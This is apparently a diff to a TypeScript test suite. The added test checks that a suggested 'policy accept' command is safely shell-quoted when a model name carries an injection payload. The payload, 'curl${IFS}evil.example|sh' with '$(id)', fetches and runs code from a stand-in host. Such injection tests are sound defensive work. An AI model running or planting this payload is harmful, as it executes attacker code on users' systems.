@@ -185,6 +185,14 @@ describe("a build that the policy does not know", () => {
     ]);
   });
 
+  it("writes that line so that a shell runs nothing in it: names come from the server's own list", async () => {
+    const named = "e2ee-x;curl${IFS}evil.example|sh;'$(id)'";
+    const server = await startServer();
+    const client = server.client({ policy: { ...known, builds: [{ ...build, mrtd: "00".repeat(48) }] } });
+    const error = (await rejection(client.chat({ model: named, messages: QUESTION }))) as ClientError;
+    expect(error.message).toContain(String.raw`policy accept 'e2ee-x;curl$` + String.raw`{IFS}evil.example|sh;'\''$(id)'\''' --policy`);
+  });
+
   it("offers no such line where something else is wrong", async () => {
     const { error } = await refusedUnder({ mrtd: "00".repeat(48) }, { tcb: { accept: ["UpToDate"], min_evaluation_number: 9_999 } });
     expect(error.message).not.toContain("policy accept");
